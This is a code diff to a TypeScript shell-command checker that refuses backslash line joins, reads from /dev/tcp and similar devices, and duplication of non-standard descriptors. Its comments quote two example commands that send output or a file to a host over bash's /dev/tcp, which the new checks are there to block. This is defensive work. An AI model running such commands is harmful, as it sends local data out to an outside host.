@@ -79,6 +79,9 @@ function read(command: string, parser: ShellParser, depth: number, options: Sign
   if (command.trim() === '') return { signatures: [], never: 'the command is empty' };
   if (command.length > MAX_COMMAND_LENGTH) return { signatures: [], never: `the command is longer than ${MAX_COMMAND_LENGTH} characters` };
   if (command.includes('\0')) return { signatures: [], never: 'the command holds a NUL character' };
+  // Bash joins a line ending in a backslash to the next before it splits words (`-\⏎o` is `-o`), which
+  // the syntax tree does not show: such a command is never read as the words the tree has.
+  if (/\\\r?\n/.test(command)) return { signatures: [], never: 'a backslash at the end of a line joins it to the next, which can spell words the command does not show' };
   const parsed = parser.parse(command);
   if (!parsed.ok) return { signatures: [], never: `it cannot be read as a shell command: ${parsed.reason}` };
   const walker = new Walker(parser, depth, options, sharedShell);
@@ -350,17 +353,42 @@ class Walker {
       const destination = fieldChildren(node, 'destination')[0] ?? namedChildren(node).find((child) => child.type !== 'file_descriptor');
       const target = destination === undefined ? undefined : literalValue(destination);
       if (operator === '<') {
+        const problem = inputProblem(target);
+        if (problem !== undefined) {
+          this.refuse(`\`${clip(node.text)}\` ${problem}`);
+          continue;
+        }
         if (descriptor === undefined || descriptor === '0') feedsStdin = true;
         continue;
       }
-      if ((operator === '>&' || operator === '<&') && target !== undefined && /^(\d+|-)$/.test(target)) continue; // 2>&1, >&-
-      if (operator === '<&' || operator === '>&-' || operator === '<&-') continue; // duplicating or closing a descriptor
+      // Only the standard descriptors may be duplicated: another one may have been opened on a socket
+      // (`exec 3</dev/tcp/host/port; git status >&3`), so writing into it sends the output away.
+      if ((operator === '>&' || operator === '<&') && target !== undefined && /^([012]|-)$/.test(target)) continue; // 2>&1, >&-
+      if (operator === '>&-' || operator === '<&-') continue; // closing a descriptor
+      if (operator === '>&' || operator === '<&') {
+        this.refuse(`\`${clip(node.text)}\` duplicates ${target === undefined ? 'a descriptor named by an expansion' : `the descriptor ${target}`}, which may be a file or a socket opened elsewhere`);
+        continue;
+      }
       if (target !== undefined && HARMLESS_TARGETS.has(target)) continue;
       this.refuse(`\`${clip(node.text)}\` writes output into ${target === undefined ? 'a file named by an expansion' : `the file ${quoteWords([target])}`}`);
     }
     return feedsStdin;
   }
 }
+
+/**
+ * Why reading from `target` is not inert, or undefined: a literal path, and under `/dev/` only the
+ * devices that are plain data. Bash itself opens `/dev/tcp/HOST/PORT` and `/dev/udp/…` as a network
+ * connection, so `cat f 3</dev/tcp/h/p >&3` would send the file away.
+ */
+function inputProblem(target: string | undefined): string | undefined {
+  if (target === undefined) return 'reads from a file named by an expansion, which may be a network connection';
+  if (target.startsWith('/dev/') && !INPUT_DEVICES.has(target)) return `reads from ${quoteWords([target])}, a device or a network connection that bash opens itself`;
+  return undefined;
+}
+
+/** The devices a command may read from: they hold no one's data and reach nothing. */
+const INPUT_DEVICES = new Set(['/dev/null', '/dev/zero', '/dev/stdin', '/dev/random', '/dev/urandom']);
 
 /** Whether shell text expands the variable `name` (`$name`, `${name}`). */
 function refersTo(text: string, name: string): boolean {
